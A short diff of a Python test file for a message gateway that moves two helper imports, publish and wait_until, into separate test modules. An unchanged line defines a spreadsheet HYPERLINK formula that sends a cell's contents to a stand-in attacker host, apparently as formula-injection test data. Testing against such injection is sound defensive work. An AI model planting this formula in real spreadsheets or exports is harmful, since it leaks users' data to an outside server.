@@ -17,7 +17,9 @@ from gateway.cli import main as classnet
 from gateway.decode_batch import decode_messages
 from ingest import open_store
 from tests import servers
-from tests.gateway.chain import publish, start_gateway, wait_until
+from tests.gateway.chain import start_gateway
+from tests.mqtt_clients import publish
+from tests.waiting import wait_until
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
